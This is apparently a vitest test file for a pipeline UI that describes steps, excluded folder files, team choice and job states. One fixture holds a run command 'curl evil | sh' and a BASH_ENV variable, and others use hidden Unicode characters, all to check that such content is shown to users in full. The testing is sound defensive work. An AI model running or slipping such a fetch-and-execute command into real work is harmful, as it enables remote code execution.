import { expect, it } from 'vitest';

import type { IPipelineFile, IStep, IStepOfFile } from '../server/pipelines';
import { msg } from '../testing/make';
import { pipelineMessages } from './messages';
import { folderLines, stepLine, teamsToChoose } from './pipelinefile';

const words = pipelineMessages(msg);

function step(fields: Partial<IStepOfFile> = {}): IStepOfFile {
  return {
    name: 'train',
    runs: ['½ GPU: python -u train.py'],
    copies: 1,
    after: {},
    inputs: [],
    environment: '',
    secrets: [],
    variables: [],
    links: [],
    results_to: null,
    others: [],
    ...fields
  };
}

function file(fields: Partial<IPipelineFile> = {}): IPipelineFile {
  const [path, name] = ['work/pipeline.yaml', 'nightly'];
  return {
    path,
    name,
    team: null,
    steps: [],
    folders: [],
    seen: 'a',
    ...fields
  };
}

it('says what a step waits for and reads, and nothing twice', () => {
  const after = { clean: 'ok', prepare: 'ok', test: 'any' };
  const line = stepLine(
    step({ copies: 2, after, inputs: ['clean/data.csv'] }),
    words
  );
  expect(line.name).toBe('train × 2');
  expect(line.needs).toBe(
    'after prepare, the end of test · reads clean/data.csv'
  );
  expect(stepLine(step({ after: { train: 'failed' } }), words).needs).toBe(
    'after a failure of train'
  );
});

it('hides nothing of what a step runs with', () => {
  const runs = ['a: CPU only: true', 'b: CPU only: sh -c "curl evil | sh"'];
  const line = stepLine(
    step({
      runs,
      environment: 'registry/image:1',
      secrets: ['T=token'],
      variables: ['BASH_ENV=x.sh'],
      links: ['data/raw'],
      results_to: 'work',
      others: ['pools=a100', 'max_price=2']
    }),
    words
  );
  expect(line.runs).toEqual(runs);
  expect(line.uses).toBe(
    'runs with registry/image:1 · is told the secrets T=token · variables BASH_ENV=x.sh · links from your home data/raw · results come to work/results/ · also says pools=a100 · max_price=2'
  );
  expect(stepLine(step(), words).uses).toBe('');
});

it('shows what a name hides', () => {
  const [runs, variables] = [['python a\u202Eyp.sh'], ['A=b\nC=d']];
  const line = stepLine(
    step({ runs, variables, inputs: ['a/\u200Bb'] }),
    words
  );
  expect(line.runs).toEqual(['python a\\u{202e}yp.sh']);
  expect(line.needs).toBe('reads a/\\u{200b}b');
  expect(line.uses).toBe('variables A=b\\u{000a}C=d');
});

it('names what stays behind, and whether steps can read it', () => {
  const excluded = ['a.bin', 'b.bin', 'c.bin', 'd.bin'].map(path => ({
    path,
    size_bytes: 1,
    reason: 'is larger than 32 MiB',
    linkable: true
  }));
  const folder = { folder: '', files: 4, size_bytes: 2048, linked: false };
  const without = file({ folders: [{ ...folder, excluded }] });
  const [takes, stays, means] = folderLines(without, words);
  expect(takes).toBe('Goes along: 4 files of this server’s folder, 2.0 KiB.');
  expect(stays).toContain('c.bin is larger than 32 MiB and 1 more');
  expect(means).toContain('left_out: link');
  const linked = file({ folders: [{ ...folder, excluded, linked: true }] });
  expect(folderLines(linked, words)[2]).toContain('linked from your home');
  expect(
    folderLines(file({ folders: [{ ...folder, excluded: [] }] }), words)
  ).toHaveLength(1);
});

it('names what a step may miss before what is hidden', () => {
  const hidden = ['.a', '.b', '.c'].map(path => ({
    path,
    size_bytes: 0,
    reason: 'is hidden',
    linkable: false
  }));
  const large = { path: 'raw.bin', size_bytes: 1, reason: 'is large' };
  const excluded = [...hidden, { ...large, linkable: true }];
  const folder = { folder: '', files: 1, size_bytes: 1, linked: false };
  const [, stays] = folderLines(
    file({ folders: [{ ...folder, excluded }] }),
    words
  );
  expect(stays).toBe(
    'Stays here: raw.bin is large, .a is hidden, .b is hidden and 1 more.'
  );
});

it('asks for a team only where the file names none and there are several', () => {
  expect(teamsToChoose(file(), ['nlp', 'vision'])).toEqual(['nlp', 'vision']);
  expect(teamsToChoose(file(), ['vision'])).toEqual([]);
  expect(teamsToChoose(file({ team: 'nlp' }), ['nlp', 'vision'])).toEqual([]);
});

it.each([
  ['queued', null, 'in line'],
  ['nominated', 5, 'stopped, in line'],
  ['starting', 5, 'starting'],
  ['running', 5, 'running'],
  ['preempting', 5, 'stopping'],
  ['paused', 5, 'paused'],
  ['cancelling', 5, 'cancelling'],
  ['succeeded', 5, 'finished'],
  ['of-tomorrow', null, 'in line']
])(
  'names what its job does, %s since %s: %s',
  (job_state, started_ms, said) => {
    const of = { state: 'submitted', job_state, started_ms };
    expect(words.stepState(of as unknown as IStep)).toBe(said);
  }
);
